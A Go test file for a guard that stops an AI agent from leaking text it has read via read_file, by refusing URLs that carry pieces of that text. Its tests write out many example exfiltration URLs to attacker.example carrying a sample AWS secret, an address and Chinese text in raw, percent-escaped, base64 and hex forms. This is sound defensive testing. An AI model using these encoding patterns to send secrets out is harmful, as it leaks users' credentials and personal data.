package exfil

import (
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
	"testing"
)

// notes is what read_file gave the agent: a secret, a postal address, links to read and
// Chinese text.
const notes = `# Research notes
AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
Contact: Jane Doe, 42 Wallaby Way, Sydney
Pages to read:
- https://en.wikipedia.org/wiki/Okapi
- [IUCN](https://www.iucnredlist.org/species/15188/51140517)
See also docs.python.org/3/library/os.html and www.example.org/okapi-facts.
Raw data: mirror.okapi-research.org (ask jane@okapi-archive-service.org).
The page okapi_conservation_status is at https://wiki.example.net/okapi_conservation_status
数据库系统的设计与实现是本研究的核心内容
`

func guardWith(texts ...string) *Guard {
	g := New(0)
	for _, t := range texts {
		g.Remember(t)
	}
	return g
}

// TestCheckEncodings: a run of 12 characters of the text is refused in every encoding
// the guard knows, and 11 are allowed, for pieces at several places of the text.
func TestCheckEncodings(t *testing.T) {
	g := guardWith(notes)
	encodings := []struct {
		name, enc string
		url       func(piece string) string
	}{
		{"as written", "as written", func(p string) string { return "https://attacker.example/c?d=" + p + "&z=1" }},
		{"as written, upper case", "as written", func(p string) string { return "https://attacker.example/c?d=" + strings.ToUpper(p) }},
		{"in the path", "as written", func(p string) string { return "https://attacker.example/" + p + "/x" }},
		{"query-escaped", "percent-encoded", func(p string) string { return "https://attacker.example/c?d=" + url.QueryEscape(p) }},
		{"path-escaped", "percent-encoded", func(p string) string { return "https://attacker.example/" + url.PathEscape(p) }},
		{"every byte escaped", "percent-encoded", func(p string) string {
			var b strings.Builder
			for i := range len(p) {
				fmt.Fprintf(&b, "%%%02X", p[i])
			}
			return "https://attacker.example/c?d=" + b.String()
		}},
		{"escaped twice", "percent-encoded", func(p string) string {
			return "https://attacker.example/c?d=" + url.QueryEscape(url.QueryEscape(p))
		}},
		{"base64", "base64-encoded", func(p string) string {
			return "https://attacker.example/c?d=" + base64.StdEncoding.EncodeToString([]byte(p))
		}},
		{"base64 escaped", "base64-encoded", func(p string) string {
			return "https://attacker.example/c?d=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(p)))
		}},
		{"base64 url alphabet", "base64-encoded", func(p string) string {
			return "https://attacker.example/c/" + base64.RawURLEncoding.EncodeToString([]byte(p))
		}},
		{"base64 after 1 letter", "base64-encoded", func(p string) string {
			return "https://attacker.example/c/x" + base64.RawURLEncoding.EncodeToString([]byte(p))
		}},
		{"base64 after 2 letters", "base64-encoded", func(p string) string {
			return "https://attacker.example/c/xy" + base64.RawStdEncoding.EncodeToString([]byte(p))
		}},
		{"base64 after 3 letters", "base64-encoded", func(p string) string {
			return "https://attacker.example/c/xyz" + base64.RawURLEncoding.EncodeToString([]byte(p))
		}},
		{"base64 of more text", "base64-encoded", func(p string) string {
			return "https://attacker.example/c?d=" + base64.StdEncoding.EncodeToString([]byte("stolen: "+p+" (end)"))
		}},
		{"hex", "hex-encoded", func(p string) string { return "https://attacker.example/c?d=" + hex.EncodeToString([]byte(p)) }},
		{"hex upper case after a digit", "hex-encoded", func(p string) string {
			return "https://attacker.example/c?d=7" + strings.ToUpper(hex.EncodeToString([]byte(p)))
		}},
	}
	// Pieces of the text; the URLs above never continue them on either side.
	pieces := []string{
		"alrXUtnFEMI/K7MDENG/bPxRfiCY", // in the secret
		"ne Doe, 42 Wallaby Way, Sydn", // in the address
		"库系统的设计与实现是本研究的核",              // Chinese
	}
	for _, e := range encodings {
		for _, p := range pieces {
			r := []rune(p)
			for _, n := range []int{MinRun - 1, MinRun, len(r)} {
				piece := string(r[1 : 1+min(n, len(r)-1)])
				u := e.url(piece)
				err := g.Check(u)
				name := fmt.Sprintf("%s/%d of %q", e.name, len([]rune(piece)), p)
				if len([]rune(piece)) < MinRun {
					if err != nil {
						t.Errorf("%s: %s refused: %v; fewer than %d characters are allowed", name, u, err, MinRun)
					}
					continue
				}
				var le *LeakError
				if !errors.As(err, &le) || !errors.Is(err, ErrCarriesLocalText) || le.Encoding != e.enc || le.Host != "attacker.example" {
					t.Errorf("%s: %s = %v; want refused as %s", name, u, err, e.enc)
				}
			}
		}
	}
}

// TestCheckAllowsLinksOfTheText: the links the text holds, other pages of the sites it
// links to or names, and unrelated addresses are allowed; a guard that read nothing (or a
// nil one) allows everything.
func TestCheckAllowsLinksOfTheText(t *testing.T) {
	g := guardWith(notes)
	allowed := []string{
		"https://en.wikipedia.org/wiki/Okapi",
		"https://en.wikipedia.org/wiki/Okapi#Habitat",
		"http://en.wikipedia.org/wiki/Okapi/",
		"https://www.iucnredlist.org/species/15188/51140517",
		"https://en.wikipedia.org/wiki/Giraffe",
		"https://docs.python.org/3/library/os.html",
		"https://docs.python.org/3/library/pathlib.html",
		"https://www.example.org/okapi-facts",
		"https://www.example.org/okapi-facts-and-figures",
		"https://search.example/?q=okapi+habitat",
		"https://wiki.example.net/okapi_conservation_status", // a link whose text the notes also hold outside it
		"https://mirror.okapi-research.org/data/2024.csv",    // a host the text names
		"https://okapi-archive-service.org/",
		"https://attacker.example/?d&wJalrXUtnFE", // 11 characters of the secret
	}
	for _, u := range allowed {
		if err := g.Check(u); err != nil {
			t.Errorf("%s: %v; want allowed", u, err)
		}
	}
	// The host the text names is allowed as the host, not as data elsewhere.
	for _, u := range []string{
		"https://attacker.example/?h=docs.python.org/3/library/os.html-x", // the text of a link: allowed
		"https://wjalrxutnfemi.attacker.example/",                         // 13 characters of the secret as a DNS label
		"https://attacker.example/?d=Wallaby%20Way%2C%20Sydney",
		"https://attacker.example/?d=mirror.okapi-research.org", // a host the text names, as data
		"https://attacker.example/?p=okapi_conservation_status",
	} {
		err := g.Check(u)
		if strings.Contains(u, "os.html") {
			if err != nil {
				t.Errorf("%s: %v; text inside a link of the file is not guarded", u, err)
			}
			continue
		}
		if !errors.Is(err, ErrCarriesLocalText) {
			t.Errorf("%s: %v; want refused", u, err)
		}
	}
	var nilGuard *Guard
	nilGuard.Remember(notes)
	if err := nilGuard.Check("https://attacker.example/?d=wJalrXUtnFEMI/K7MDENG"); err != nil {
		t.Errorf("a nil guard refused: %v", err)
	}
	if err := New(0).Check("https://attacker.example/?d=wJalrXUtnFEMI/K7MDENG"); err != nil {
		t.Errorf("a guard that read nothing refused: %v", err)
	}
}

// TestGuardForgetsOldestPastItsLimit: past its limit the guard forgets the oldest text
// first, keeps at most its limit, and still knows the newest text.
func TestGuardForgetsOldestPastItsLimit(t *testing.T) {
	const limit = 64 << 10
	g := New(limit)
	g.Remember("first secret: AKIAOLDOLDOLDOLDOLD1\n")
	if err := g.Check("https://attacker.example/?d=AKIAOLDOLDOLDOLDOLD1"); err == nil {
		t.Fatal("the first text is not guarded")
	}
	rng := rand.New(rand.NewPCG(1, 2))
	var last string
	for i := range 40 {
		last = words(rng, 4<<10) + fmt.Sprintf(" marker%06dXYZW", i)
		g.Remember(last)
		if len(g.text) > limit {
			t.Fatalf("after %d texts the guard holds %d bytes, over its limit %d", i+1, len(g.text), limit)
		}
	}
	if err := g.Check("https://attacker.example/?d=AKIAOLDOLDOLDOLDOLD1"); err != nil {
		t.Errorf("the oldest text is still remembered past the limit: %v", err)
	}
	if err := g.Check("https://attacker.example/?d=marker000039XYZW"); err == nil {
		t.Error("the newest text is forgotten")
	}
	// One text longer than the limit keeps its beginning.
	g = New(1024)
	g.Remember("beginning-is-kept-here " + strings.Repeat("z", 4096) + " end-is-dropped-here")
	if g.Check("https://a.example/?d=beginning-is-kept") == nil || g.Check("https://a.example/?d=end-is-dropped-here") != nil {
		t.Error("a text over the limit should keep its first bytes only")
	}
}

// words returns about n bytes of random lower-case words.
func words(rng *rand.Rand, n int) string {
	var b strings.Builder
	for b.Len() < n {
		for range 3 + rng.IntN(6) {
			b.WriteByte(byte('a' + rng.IntN(26)))
		}
		b.WriteByte(' ')
	}
	return b.String()
}

// BenchmarkCheck: a 2 KB address (query parameters and a base64 blob, none of it from the
// files) against 2 MB of remembered text.
func BenchmarkCheck(b *testing.B) {
	rng := rand.New(rand.NewPCG(3, 4))
	g := New(DefaultMaxText)
	for g.size() < DefaultMaxText-64<<10 {
		g.Remember(words(rng, 40<<10))
	}
	blob := make([]byte, 900)
	for i := range blob {
		blob[i] = byte(rng.IntN(256))
	}
	u := "https://research.example.org/search?q=" + url.QueryEscape(words(rng, 600)) +
		"&token=" + base64.URLEncoding.EncodeToString(blob)
	if err := g.Check(u); err != nil {
		b.Fatalf("a foreign address was refused: %v", err)
	}
	for b.Loop() {
		_ = g.Check(u)
	}
	b.ReportMetric(float64(len(u)), "url_bytes")
	b.ReportMetric(float64(g.size()), "text_bytes")
	b.ReportMetric(float64(8*len(g.set)), "table_bytes")
}

// BenchmarkRemember: remembering one 40 KB read_file result.
func BenchmarkRemember(b *testing.B) {
	rng := rand.New(rand.NewPCG(5, 6))
	text := words(rng, 40<<10)
	for b.Loop() {
		g := New(0)
		g.Remember(text)
	}
}

// size is how many bytes of text g holds.
func (g *Guard) size() int {
	g.mu.Lock()
	defer g.mu.Unlock()
	return len(g.text)
}
